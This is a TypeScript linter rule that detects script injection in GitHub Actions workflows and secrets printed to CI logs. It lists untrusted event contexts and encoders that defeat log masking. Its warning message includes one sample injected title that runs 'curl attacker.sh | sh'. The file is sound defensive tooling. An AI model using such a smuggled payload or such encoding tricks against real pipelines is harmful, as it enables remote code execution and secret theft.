import { defineRule } from '../../../src/core/define-rule.js';
import { pipelinesOf, type Script } from '../_pipelines/pipelines.js';
import { parseShell } from '../_pipelines/shell.js';

/**
 * Contexts whose value an outsider chooses: issue, PR, discussion and comment text, commit messages and authors,
 * branch names (GitHub's "untrusted input" list, as actionlint and zizmor use it).
 */
const untrusted = [
  /github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b/,
  /github\.event\.(?:comment|review|review_comment)\.body\b/,
  /github\.event\.pages\b[^}]*\.page_name\b/,
  /github\.event\.(?:commits\b[^}]*|head_commit)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))\b/,
  /github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b/,
  /github\.head_ref\b/,
  /github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests\b[^}]*\.head\.ref)\b/,
  /toJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|discussion|head_commit|commits))?\s*\)/,
];

/** Triggers under which an outsider's text reaches a run holding secrets and a write-capable token. */
const privileged = ['pull_request_target', 'workflow_run', 'issue_comment', 'issues', 'discussion', 'discussion_comment', 'pull_request_review', 'pull_request_review_comment'];

const expression = /\$\{\{([\s\S]*?)\}\}/g;
const encoders = new Set(['base64', 'xxd', 'od', 'hexdump', 'rev', 'sed', 'tr', 'awk', 'openssl', 'gzip', 'jq']);

export default defineRule({
  meta: {
    id: 'workflow-script-injection',
    category: 'delivery',
    checklist: 'CI-7',
    severity: 'high',
    confidence: 'high',
    stability: 'experimental',
    messages: {
      untrusted:
        '`${{ {{expression}} }}` is pasted into this script before the shell runs, and its value is chosen by whoever opens the issue, pull request or branch, so a crafted title such as `x"; curl attacker.sh | sh; "` runs with this job\'s token and secrets. Pass it through `env:` (e.g. `TITLE: ${{ {{expression}} }}`) and use "$TITLE" in the script.',
      secretPrinted:
        'This step prints the secret `{{secret}}` ({{how}}); GitHub masks only the exact secret string, so an encoded, multi-line or structured value reaches the log in clear, and the value is also written into the generated script file. Pass it via `env:` and hand it to tools on stdin or in a file instead of printing it.',
    },
    docs: {
      summary: 'Untrusted `${{ }}` expressions (issue and PR titles, bodies, branch names, commit messages) inside `run:` scripts, and secrets printed by `echo`/`printf`.',
      why: 'GitHub expands `${{ }}` into the script text before the shell parses it, so the value is code, not data. Titles, bodies, branch names and commit messages are chosen by outsiders; in a workflow with secrets or a write token this is remote code execution in your CI.',
      howToFix:
        'Map the value to an environment variable on the step (`env: TITLE: ${{ github.event.pull_request.title }}`) and reference it quoted in the script (`"$TITLE"`). The same for `actions/github-script`: read `process.env.TITLE` instead of interpolating. Never `echo` a secret; give it to tools through `env:`, stdin (`--password-stdin`) or a file.',
      examples: {
        invalid: [
          {
            file: '.github/workflows/triage.yml',
            code: 'on:\n  issues:\n    types: [opened]\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue ${{ github.event.issue.title }}"\n',
          },
        ],
        valid: [
          {
            file: '.github/workflows/triage.yml',
            code: 'on:\n  issues:\n    types: [opened]\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue $TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
          },
        ],
      },
      peers: ['zizmor `template-injection`', 'actionlint "expression injection" (untrusted inputs)', 'CodeQL `actions/code-injection`', 'Checkov CKV_GHA_2 (shell injection)'],
      limitations: [
        'Values that travel through step outputs, job outputs or `inputs` are not traced back to their source.',
        '`inputs.*` of `workflow_dispatch` are typed by people with write access and are not reported.',
        'Secrets are recognised only through `${{ secrets.* }}` in GitHub workflows; other CI systems mask variables by their own settings.',
      ],
    },
  },
  scope: 'repository',
  check(ctx) {
    const pipelines = pipelinesOf(ctx.model).filter((p) => p.provider === 'github');
    if (pipelines.length === 0) {
      ctx.notApplicable('no GitHub Actions workflows or composite actions');
      return;
    }
    const seen = new Set<number | string>();
    for (const pipeline of pipelines) {
      // In a composite action the caller's trigger is unknown: treat it as privileged.
      const isPrivileged = pipeline.kind === 'action' || pipeline.triggers.some((t) => privileged.includes(t));
      for (const job of pipeline.jobs) {
        for (const step of job.steps) {
          const scripts: Script[] = [];
          if (step.run) scripts.push(step.run);
          if (step.uses && /^actions\/github-script@/i.test(step.uses.value) && step.with.script) scripts.push(step.with.script);
          for (const script of scripts) {
            for (const m of script.text.matchAll(expression)) {
              const inner = m[1]!.trim();
              if (!untrusted.some((re) => re.test(inner))) continue;
              const start = script.offsetAt(m.index);
              const key = `${script.path}:${start}`;
              if (seen.has(key)) continue;
              seen.add(key);
              ctx.report({
                messageId: 'untrusted',
                data: { expression: inner },
                path: script.path,
                range: { start, end: start + m[0].length },
                ...(isPrivileged ? {} : { severity: 'medium' as const }),
              });
            }
          }
          if (step.run) reportPrintedSecrets(step.run);
        }
      }
    }

    function reportPrintedSecrets(script: Script): void {
      const commands = parseShell(script.text);
      commands.forEach((command, i) => {
        const bin = command.words[0]?.value;
        if (bin !== 'echo' && bin !== 'printf') return;
        const raw = script.text.slice(command.start, command.end);
        const secret = /\$\{\{\s*secrets\.([A-Za-z0-9_]+)\s*\}\}/.exec(raw);
        if (!secret || secret[1] === 'GITHUB_TOKEN') return;
        const targets = command.redirects;
        let how: string | undefined;
        if (command.next === '|' || command.next === '|&') {
          const consumer = commands[i + 1]?.words[0]?.value ?? '';
          if (encoders.has(consumer)) how = `piped into \`${consumer}\`, which defeats log masking`;
        } else if (targets.length === 0) how = `\`${bin}\` to the job log`;
        else if (targets.some((t) => /GITHUB_STEP_SUMMARY/.test(t))) how = 'into the job summary';
        if (!how) return;
        const start = script.offsetAt(command.start);
        const key = `${script.path}:${start}:secret`;
        if (seen.has(key)) return;
        seen.add(key);
        ctx.report({ messageId: 'secretPrinted', data: { secret: `secrets.${secret[1]}`, how }, path: script.path, range: { start, end: start + bin.length }, severity: 'medium', confidence: 'medium' });
      });
    }
  },
});
